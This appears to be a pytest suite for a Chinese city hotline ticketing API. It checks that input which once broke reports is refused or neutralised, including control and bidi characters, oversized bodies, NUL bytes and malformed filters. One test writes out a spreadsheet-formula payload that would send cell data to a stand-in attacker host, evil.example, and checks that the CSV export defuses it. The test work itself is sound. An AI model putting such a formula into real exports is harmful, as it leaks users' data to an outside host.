"""Input that used to break reports or pollute data, through the REST API on both backends:
free-text categories, naive dates, spreadsheet formulas, control characters, Unicode
digits, chunked oversized bodies, and the error shape the OpenAPI document promises.
A check made before anything is stored runs on SQLite alone (docs/suite.md)."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import anyio.to_thread
import jsonschema
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from config import Settings
from tests.support.api import auth
from tests.support.city import City
from ticketing.models import Ticket


def create(client: TestClient, city: City, **body: object):
    payload = {"caller_phone": "13811112222", "demand": "朝阳区望京西园三区5号楼停水了", **body}
    return client.post("/api/v1/tickets", json=payload, headers=auth(city, "operator"))


def export_rows(client: TestClient, city: City) -> list[dict[str, str]]:
    r = client.get("/api/v1/export.csv", headers=auth(city, "operator"))
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_unknown_category_is_refused_and_old_rows_still_export(
    client: TestClient, city: City
) -> None:
    r = create(client, city, category="bogus")
    assert r.status_code == 422 and r.json()["field"] == "category"
    assert create(client, city, category="water").status_code == 201
    with city.sessions() as s:  # a row stored before categories were checked
        s.scalars(select(Ticket)).one().category = "bogus"
        s.commit()
    rows = export_rows(client, city)
    assert [row["分类"] for row in rows] == ["bogus"]


def test_naive_since_and_until_are_the_hotlines_local_time(
    client: TestClient, city: City, settings: Settings
) -> None:
    assert create(client, city, category="water", address="朝阳区望京西园三区5号楼").status_code == 201
    assert create(client, city, category="water", caller_phone="13900001111",
                  address="朝阳区望京西园三区5号楼").status_code == 201
    local_now = datetime.now(ZoneInfo(settings.timezone)).replace(tzinfo=None)
    # An hour ago in Beijing; read as UTC it would be seven hours ahead and count nothing.
    an_hour_ago = (local_now - timedelta(hours=1)).isoformat(timespec="seconds")
    sup = auth(city, "supervisor")
    r = client.get("/api/v1/stats", params={"since": an_hour_ago}, headers=sup)
    assert r.status_code == 200 and r.json()["tickets"] == 2
    r = client.get("/api/v1/stats", params={"until": an_hour_ago}, headers=sup)
    assert r.status_code == 200 and r.json()["tickets"] == 0
    r = client.get("/api/v1/hotspots", params={"since": an_hour_ago}, headers=sup)
    assert r.status_code == 200 and r.json()[0]["tickets"] == 2
    # A local midnight of year 1 is in year 0 in UTC, which no datetime holds.
    r = client.get("/api/v1/stats", params={"since": "0001-01-01T00:00:00"}, headers=sup)
    assert r.status_code == 422 and r.json()["field"] == "query.since"


def test_export_neutralises_spreadsheet_formulas(client: TestClient, city: City) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    assert create(client, city, category="water", demand=formula,
                  caller_name="@SUM(1+1)", subject="-2+3").status_code == 201
    row = export_rows(client, city)[0]
    assert row["诉求内容"] == "'" + formula
    assert row["姓名"] == "'@SUM(1+1)" and row["标题"] == "'-2+3"
    assert row["分类"] == "供水"  # ordinary cells are untouched


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("demand", "停水\x00了"),
        ("demand", "停水了\u202e（反向）"),
        ("demand", "停水\u2066了\u2069"),
        ("demand", "停水\x1b[31m了"),
        ("caller_name", "王\n先生"),
        ("caller_name", "王\u202d先生"),
        ("address", "望京\r西园"),
        ("subject", "停\x07水"),
    ],
)
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: refused by validation, not storage
def test_control_and_bidi_characters_are_refused(
    client: TestClient, city: City, field: str, value: str
) -> None:
    r = create(client, city, category="water", **{field: value})
    assert r.status_code == 422, r.text
    assert r.json()["field"] == field and r.json()["error"] == "invalid_input"
    with city.sessions() as s:
        assert s.scalars(select(Ticket)).first() is None


def test_multiline_text_keeps_its_lines_and_actions_check_their_text(
    client: TestClient, city: City
) -> None:
    r = create(client, city, category="water", demand="停水了\r\n三天没来水\r\n请尽快处理")
    assert r.status_code == 201 and r.json()["demand"] == "停水了\n三天没来水\n请尽快处理"
    n = r.json()["number"]
    h = auth(city, "water-handler")
    assert client.post(f"/api/v1/tickets/{n}/sign", headers=h).status_code == 200
    r = client.post(f"/api/v1/tickets/{n}/reply", json={"text": "已处理\u202e", "outcome": "resolved"}, headers=h)
    assert r.status_code == 422 and r.json()["field"] == "text"
    r = client.post(f"/api/v1/tickets/{n}/return", json={"reason": "非本单位\x00"}, headers=h)
    assert r.status_code == 422 and r.json()["field"] == "reason"
    r = client.post(f"/api/v1/tickets/{n}/reply", json={"text": "已抢修\n恢复供水", "outcome": "resolved"}, headers=h)
    assert r.status_code == 200 and r.json()["reply_text"] == "已抢修\n恢复供水"


@pytest.mark.parametrize("ref", ["²", "٣", "１２"])
def test_unicode_digits_in_a_ticket_ref_are_not_found(
    client: TestClient, city: City, ref: str
) -> None:
    op = auth(city, "operator")
    r = client.post(f"/api/v1/tickets/{ref}/accept", headers=op)
    assert r.status_code == 404 and r.json()["error"] == "not_found"
    assert client.get(f"/api/v1/tickets/{ref}", headers=op).status_code == 404


@pytest.mark.parametrize("ref", ["9" * 5000, "１" * 5000, "2612080001" + "0" * 4300])
def test_a_ref_of_thousands_of_digits_is_not_found_not_a_500(
    client: TestClient, city: City, ref: str
) -> None:
    # int() refuses more than 4,300 digits (ValueError): such a ref was a 500 on every
    # ticket route, for any signed-in user (sec57).
    op = auth(city, "operator")
    for path in (f"/api/v1/tickets/{ref}", f"/api/v1/tickets/{ref}/events"):
        r = client.get(path, headers=op)
        assert r.status_code == 404 and r.json()["error"] == "not_found", path
    assert client.post(f"/api/v1/tickets/{ref}/accept", headers=op).status_code == 404


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the body's size, not storage
def test_chunked_oversized_body_is_413(client: TestClient, city: City,
                                       settings: Settings) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"caller_phone": "13800000000", "demand": "'
        yield "停".encode() * (settings.max_body_bytes // 3 + 1)
        yield b'"}'

    headers = {**auth(city, "operator"), "Content-Type": "application/json"}
    r = client.post("/api/v1/tickets", content=chunks(), headers=headers)
    assert "content-length" not in r.request.headers  # sent chunked
    assert r.status_code == 413 and r.json()["error"] == "body_too_large"
    small = iter([b'{"caller_phone": "13800000000", ', '"demand": "朝阳区停水了"}'.encode()])
    r = client.post("/api/v1/tickets", content=small, headers=headers)
    assert r.status_code == 201, r.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the error's shape, not storage
def test_every_error_has_the_documented_shape(client: TestClient, city: City) -> None:
    spec = client.get("/openapi.json").json()
    assert "HTTPValidationError" not in spec["components"]["schemas"]
    ref = {"$ref": "#/components/schemas/ErrorOut"}
    for path, methods in spec["paths"].items():
        for method, op in methods.items():
            if "422" in op["responses"]:
                body = op["responses"]["422"]["content"]["application/json"]["schema"]
                assert body == ref, (method, path)
    responses = spec["paths"]["/api/v1/tickets/{ref}/accept"]["post"]["responses"]
    assert {"401", "403", "404", "409", "422"} <= set(responses)
    answers = [
        client.get("/api/v1/tickets"),  # no token
        client.get("/api/v1/tickets", headers={"Authorization": "Bearer nope"}),
        client.get("/api/v1/stats", headers=auth(city, "water-handler")),  # role
        client.get("/api/v1/stats?unit=nope", headers=auth(city, "supervisor")),
        client.get("/api/v1/tickets?page=0", headers=auth(city, "operator")),
        create(client, city, caller_phone="x"),
    ]
    assert [a.status_code for a in answers] == [401, 401, 403, 404, 422, 422]
    error_schema = {**spec["components"]["schemas"]["ErrorOut"],
                    "components": spec["components"]}
    for a in answers:
        jsonschema.validate(a.json(), error_schema)
        assert a.json()["error"] and a.json()["detail"]
    assert answers[0].headers["www-authenticate"] == "Bearer"


def test_review_notes_follow_the_text_rule(client: TestClient, city: City) -> None:
    from outbound.models import SurveyReview

    n = create(client, city, category="water").json()["number"]
    with city.sessions() as s:
        t = s.scalars(select(Ticket).where(Ticket.number == n)).one()
        review = SurveyReview(ticket_id=t.id, closure_round=1, reason="dissatisfied")
        s.add(review)
        s.commit()
        rid = review.id
    sup = auth(city, "supervisor")
    url = f"/api/v1/outbound/reviews/{rid}/resolve"
    r = client.post(url, json={"note": "已回访\x00"}, headers=sup)
    assert r.status_code == 422 and r.json()["field"] == "note"
    r = client.post(f"/api/v1/outbound/reviews/{2**63}/resolve", json={"note": "x"}, headers=sup)
    assert r.status_code == 422 and r.json()["field"] == "path.review_id"
    r = client.post(url, json={"note": "已回访核实"}, headers=sup)
    assert r.status_code == 200 and r.json()["note"] == "已回访核实"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the token gate, not storage
def test_a_strangers_or_a_handlers_demand_is_never_classified(
    client: TestClient, city: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Classifying runs before the transaction and is the costliest step of an intake
    # (~0.2 s of CPU for 5000 digits): without a valid token of a role that may file it
    # must not run at all. (A handler's token was classified, then refused: 403.)
    domain = client.app.state.domain
    seen: list[str] = []
    understand = domain.understand
    monkeypatch.setattr(domain, "understand", lambda text: seen.append(text) or understand(text))
    demand = "1" * 5000
    handler = auth(city, "water-handler")
    # The handler twice: looked up, then remembered by the token gate.
    for headers, code in (({}, 401), ({"Authorization": "Bearer not-a-token"}, 401),
                          (handler, 403), (handler, 403)):
        for path, body in (("/api/v1/tickets", {"caller_phone": "13811112222", "demand": demand}),
                           ("/api/v1/kb/answers", {"entry_id": "x", "caller_phone": "13811112222",
                                                   "demand": demand})):
            assert client.post(path, json=body, headers=headers).status_code == code
    assert seen == []
    assert create(client, city).status_code == 201 and len(seen) == 1


def test_a_token_revoked_after_the_gate_changes_nothing(
    client: TestClient, city: City
) -> None:
    from ticketing.models import User

    assert create(client, city).status_code == 201  # the gate now remembers the token
    with city.sessions() as s:
        s.scalars(select(User).where(User.username == "operator")).one().active = False
        s.commit()
    assert create(client, city, demand="海淀区中关村南大街停电了").status_code == 401
    with city.sessions() as s:
        assert len(s.scalars(select(Ticket)).all()) == 1


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the period's parsing, not storage
@pytest.mark.parametrize("route", ["/api/v1/points", "/api/v1/trends", "/api/v1/rankings"])
@pytest.mark.parametrize("period", ["9999-12", "9999", "9999-Q4", "0001-01", "0001", "0001-Q1"])
def test_a_period_at_the_calendars_ends_is_refused_not_a_500(
        client: TestClient, city: City, route: str, period: str) -> None:
    # Fourth review: the pattern lets any four digits through; the month after 9999-12,
    # or 0001-01 in UTC (or the year before it, for trends), is no date: a bare 500.
    r = client.get(route, params={"period": period}, headers=auth(city, "supervisor"))
    assert r.status_code == 422, r.text
    assert r.json()["field"] == "period"
    assert client.get(route, params={"period": "2026-11"},
                      headers=auth(city, "supervisor")).status_code == 200


# Each with the field its 422 names, as the validators name one.
NUL_URLS = [("/api/v1/tickets?q=%00", "query.q"), ("/api/v1/tickets?q=12%0034", "query.q"),
            ("/api/v1/tickets?page=1&category=%00", "query.category"),
            ("/api/v1/tickets?unit=%00", "query.unit"), ("/api/v1/stats?unit=%00", "query.unit"),
            ("/api/v1/tickets/%00", "path"), ("/api/v1/tickets/2612%000001/events", "path"),
            ("/api/v1/kb/entries?q=%00", "query.q"), ("/console/queue?q=%00", "query.q"),
            ("/api/v1/tickets?%00=1", "query")]


def test_a_nul_in_the_url_is_invalid_input_not_an_error(client: TestClient, city: City) -> None:
    """PostgreSQL refuses a NUL in any text: these answered 500 with a traceback there
    (seventeenth round's trial; SQLite, where the API fuzz test runs, takes it)."""
    client = TestClient(client.app, raise_server_exceptions=False)
    for url, field in NUL_URLS:
        r = client.get(url, headers=auth(city, "admin"))
        assert (r.status_code, r.json()["field"]) == (422, field), url
    # Text that only looks like one is a search like any other.
    assert client.get("/api/v1/tickets?q=%2500", headers=auth(city, "admin")).status_code == 200


def test_an_error_says_back_a_long_value_only_in_part(client: TestClient, city: City) -> None:
    """The twenty-second round's trial: ``/api/v1/stats?unit=`` with a unit of 5,000
    characters answered 404 echoing all of them, and so did other messages that say back
    the value refused (a ticket's number, a category, a channel, a label): each says at
    most ``ECHO_CHARS`` of it now, enough to tell which (a body's fields are bounded by
    their schema before that)."""
    long = "朝" * 5000
    answers = {
        "stats unit": client.get(f"/api/v1/stats?unit={long}", headers=auth(city, "supervisor")),
        "ticket": client.get(f"/api/v1/tickets/{long}", headers=auth(city, "operator")),
        "category": create(client, city, category=long),
        "channel": create(client, city, channel=long),
        "urgency": create(client, city, urgency=long),
    }
    for what, answer in answers.items():
        assert answer.status_code in (404, 422), (what, answer.status_code)
        assert long[:100] not in answer.text, what
        if what in ("stats unit", "ticket"):
            assert "朝" * 20 in answer.text, what  # which value: said back in part


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the body's reading, not storage
def test_a_body_that_is_not_json_says_what_to_send(client: TestClient, city: City) -> None:
    """judge28's trial: `curl -d '{…}'` without `-H 'Content-Type: application/json'` (curl
    then says form-encoded) answered "body: Input should be a valid dictionary or object to
    extract fields from", a GBK body or JSON nested 5,000 deep "There was an error parsing
    the body": nothing a sender could act on. Each now says what was wrong and what to send;
    the status codes stay (422 for a body refused, 400 for one that cannot be read)."""
    demand = '{"caller_phone":"13811112222","demand":"朝阳区望京西园三区5号楼停水一天了"}'
    headers = auth(city, "operator")
    for content_type in ("application/x-www-form-urlencoded", "text/plain", None):
        sent = {**headers, **({"Content-Type": content_type} if content_type else {})}
        r = client.post("/api/v1/tickets", content=demand.encode(), headers=sent)
        assert (r.status_code, r.json()["field"]) == (422, "body"), r.text
        assert "Content-Type: application/json" in r.json()["detail"], r.text
        assert (content_type or "none") in r.json()["detail"], r.text
    gbk = {**headers, "Content-Type": "application/json; charset=gbk"}
    r = client.post("/api/v1/tickets", content=demand.encode("gbk"), headers=gbk)
    assert (r.status_code, r.json()["error"]) == (400, "bad_request"), r.text
    assert "UTF-8" in r.json()["detail"], r.text
    deep = {**headers, "Content-Type": "application/json"}
    r = client.post("/api/v1/tickets", content=b"[" * 5000 + b"]" * 5000, headers=deep)
    assert (r.status_code, r.json()["error"]) == (400, "bad_request"), r.text
    assert "nested" in r.json()["detail"], r.text
    # A JSON body with a mistake is what it was: the field named.
    r = client.post("/api/v1/tickets", content=b'{"caller_phone": 5', headers=deep)
    assert (r.status_code, r.json()["error"]) == (422, "invalid_input"), r.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the URL's reading, not storage
def test_a_filter_given_twice_is_refused_not_half_read(client: TestClient, city: City) -> None:
    """judge28's trial: `export.csv?status=closed&status=surveyed` (as one writes "either")
    exported the surveyed tickets alone, silently: FastAPI reads the last of a repeated
    query parameter, so a report missed rows and nothing said so. No parameter of the API
    takes a list: a repeated one is 422 naming it, and nothing is read."""
    op = auth(city, "operator")
    assert create(client, city, category="water").status_code == 201
    for url in ("/api/v1/export.csv?status=closed&status=dispatched",
                "/api/v1/tickets?status=closed&status=dispatched",
                "/api/v1/stats?unit=bj-water&since=2026-01-01&unit=hd"):
        r = client.get(url, headers=op)
        assert r.status_code == 422, (url, r.status_code, r.text[:200])
        field = "query.status" if "status=" in url else "query.unit"
        assert r.json()["field"] == field and "2" in r.json()["detail"], r.text
    # One value each, as before.
    r = client.get("/api/v1/tickets?status=dispatched&page=1", headers=op)
    assert r.status_code == 200 and r.json()["total"] == 1


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the URL's reading, not storage
def test_a_query_parameter_the_route_does_not_take_is_refused(
        client: TestClient, city: City) -> None:
    """judge38's trial: `/stats?period=2025-01` (the name /rankings and /trends take) and a
    mistyped `/stats?unti=...` answered the whole history's 三率两度 as if for the period
    asked, and `export.csv?statu=closed` exported every ticket: FastAPI drops a parameter
    its route does not declare, and nothing said so. A read of the API names only what its
    route takes: anything else is 422 naming it, and nothing is read."""
    sup = auth(city, "supervisor")
    assert create(client, city, category="water").status_code == 201
    for url, name in (("/api/v1/stats?period=2025-01", "period"),
                      ("/api/v1/stats?since=2025-01-01&unti=2025-02-01", "unti"),
                      ("/api/v1/export.csv?statu=closed", "statu"),
                      ("/api/v1/tickets?page=1&pagesize=500", "pagesize"),
                      ("/api/v1/outbound/reviews?include_resolve=true", "include_resolve"),
                      ("/api/v1/kb/search?q=%E5%B1%85%E4%BD%8F%E8%AF%81&limt=1", "limt")):
        r = client.get(url, headers=sup)
        assert r.status_code == 422, (url, r.status_code, r.text[:200])
        assert r.json()["field"] == f"query.{name}" and name in r.json()["detail"], r.text
    # What the route takes, as before; a path parameter is no query parameter.
    assert client.get("/api/v1/stats?since=2025-01-01&unit=bj-water",
                      headers=sup).status_code == 200
    assert client.get("/api/v1/rankings?period=2026-12", headers=sup).status_code == 200
    number = client.get("/api/v1/tickets?page=1&page_size=5", headers=sup).json()
    assert number["total"] >= 1


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the app's wiring, not storage
def test_the_query_rule_takes_no_worker_thread(client: TestClient, city: City) -> None:
    """review91: judge38's query rule (``hotline.app.takes_only_its_query``) is a dependency
    of every route. Written as a plain function, FastAPI ran it in the default thread pool
    before each request, so the async webhooks (Twilio's, whose 15 s budget runs on their
    own executor; the SMS gateway's) first waited for a free thread, behind every slow API
    request. With every thread of that pool taken they still answer, and so does a read
    the rule refuses."""
    holder = object()

    async def take_every_thread() -> None:
        limiter = anyio.to_thread.current_default_thread_limiter()
        limiter.total_tokens = 1
        await limiter.acquire_on_behalf_of(holder)

    async def give_them_back() -> None:
        anyio.to_thread.current_default_thread_limiter().release_on_behalf_of(holder)

    answers: dict[str, int] = {}

    def ask(method: str, url: str) -> None:
        answers[url] = client.request(method, url, headers=auth(city, "operator")).status_code

    asked = [("POST", "/twilio/voice"), ("POST", "/api/v1/outbound/sms/inbound"),
             ("GET", "/api/v1/stats?period=2025-01")]
    client.portal.call(take_every_thread)
    try:
        for method, url in asked:
            asking = threading.Thread(target=ask, args=(method, url), daemon=True)
            asking.start()
            asking.join(10)
    finally:
        client.portal.call(give_them_back)
    assert answers == {"/twilio/voice": 403, "/api/v1/outbound/sms/inbound": 403,
                       "/api/v1/stats?period=2025-01": 422}, answers


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the period's reading, not storage
def test_a_period_that_ends_before_it_starts_is_refused(client: TestClient, city: City) -> None:
    """judge28's trial: `/stats?since=2026-12-07&until=2026-12-06` answered the figures of
    an empty period (every count 0, as if nothing had been filed) and the export an empty
    file; the console's own form already refused it ("结束日期不能早于开始日期"). One rule."""
    sup = auth(city, "supervisor")
    upside_down = "since=2026-12-07T00:00:00&until=2026-12-06T00:00:00"
    for url in (f"/api/v1/stats?{upside_down}", f"/api/v1/export.csv?{upside_down}",
                f"/api/v1/hotspots/places?{upside_down}"):
        r = client.get(url, headers=sup)
        assert (r.status_code, r.json()["field"]) == (422, "query.until"), (url, r.text[:200])
        assert "before" in r.json()["detail"], r.text
    # Naive and zoned moments are compared as the same instants: 08:00 Beijing is 00:00Z.
    r = client.get("/api/v1/stats?since=2026-12-06T08:00:00&until=2026-12-06T00:00:00Z",
                   headers=sup)
    assert r.status_code == 200, r.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the filter's reading, not storage
def test_a_sub_category_without_its_category_says_to_name_the_category(
        client: TestClient, city: City) -> None:
    """judge28's trial: `?sub_category=cut` (and `hotline export --sub-category cut`) alone
    answered "sub_category 'cut' is not one of category '': 无细分类", as if the code were
    wrong: codes are per category, and the category was what was missing."""
    r = client.get("/api/v1/tickets?sub_category=cut", headers=auth(city, "operator"))
    assert (r.status_code, r.json()["field"]) == (422, "query.sub_category"), r.text
    assert "category" in r.json()["detail"] and "''" not in r.json()["detail"], r.text
    assert client.get("/api/v1/tickets?category=water&sub_category=cut",
                      headers=auth(city, "operator")).status_code == 200


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the filter's reading, not storage
def test_a_filter_naming_no_unit_or_category_is_refused_not_answered_empty(
        client: TestClient, city: City) -> None:
    """judge29's trial: `/tickets?unit=bj-watr`, `/export.csv?unit=…` and `?category=watr`
    answered an empty list and a CSV of its header alone, as if that unit had no tickets;
    `/stats?unit=…` already said 404 "unit … not found". One rule, `queries.check_filters`."""
    op = auth(city, "operator")
    assert create(client, city, category="water").status_code == 201
    for path in ("/api/v1/tickets", "/api/v1/export.csv", "/api/v1/stats"):
        r = client.get(f"{path}?unit=bj-watr", headers=op)
        assert r.status_code == 404 and "bj-watr" in r.json()["detail"], (path, r.text[:200])
    for path in ("/api/v1/tickets", "/api/v1/export.csv"):
        r = client.get(f"{path}?category=watr", headers=op)
        assert (r.status_code, r.json()["field"]) == (422, "query.category"), (path, r.text)
    r = client.get("/api/v1/tickets?unit=bj-water&category=water", headers=op)
    assert r.status_code == 200 and r.json()["total"] == 1, r.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the filter's reading, not storage
def test_a_retired_category_still_on_tickets_can_be_filtered(
        client: TestClient, city: City) -> None:
    """review65: `check_filters` read today's categories.toml only, so tickets filed under a
    category since taken out of the file (kept as they are, docs/security.md) could no
    longer be listed or exported by it: 422 "unknown category". A code that names nothing
    is still refused."""
    op = auth(city, "operator")
    assert create(client, city, category="water").status_code == 201
    assert create(client, city, category="gas").status_code == 201
    with city.sessions() as s:
        s.scalars(select(Ticket).where(Ticket.category == "water")).one().category = "retired"
        s.commit()
    r = client.get("/api/v1/tickets?category=retired", headers=op)
    assert r.status_code == 200 and r.json()["total"] == 1, r.text
    r = client.get("/api/v1/export.csv?category=retired", headers=op)
    assert r.status_code == 200 and len(r.text.splitlines()) == 2, r.text
    r = client.get("/api/v1/tickets?category=retird", headers=op)
    assert (r.status_code, r.json()["field"]) == (422, "query.category"), r.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # subject: the body's reading, not storage
def test_an_id_in_a_body_is_a_json_integer(client: TestClient, city: City) -> None:
    """judge38's trial: ids in bodies were read leniently (pydantic's lax mode): a 改派 with
    `"unit_id": true` went to unit 1 (the centre's own), and `1.0`, `"14"` were ids too; a
    client sending a boolean or a string meant no unit. An id is a JSON integer: anything
    else is 422 naming the field, and the ticket stays where it was."""
    r = create(client, city, category="water")
    assert r.status_code == 201
    number, water = r.json()["number"], city.unit_id("bj-water")
    op = auth(city, "operator")
    url = f"/api/v1/tickets/{number}/reassign"
    hd, hd_handler = city.unit_id("hd"), city.user_id("hd-handler")
    for bad in (True, False, float(hd), str(hd), f"{hd}.0", [hd], {"id": hd}):
        for field, body in (("unit_id", {"unit_id": bad}),
                            ("handler_id", {"unit_id": hd, "handler_id": bad})):
            r = client.post(url, json={**body, "reason": "属地管理"}, headers=op)
            assert r.status_code == 422, (body, r.status_code, r.text[:200])
            assert r.json()["field"] == field, (body, r.text)
    with city.sessions() as s:
        t = s.scalars(select(Ticket).where(Ticket.number == number)).one()
        assert t.unit_id == water
        assert not [e for e in t.events if e.action == "reassign"]
    r = client.post(url, json={"unit_id": hd, "handler_id": hd_handler, "reason": "属地管理"},
                    headers=op)
    assert r.status_code == 200 and r.json()["unit"] == "hd", r.text
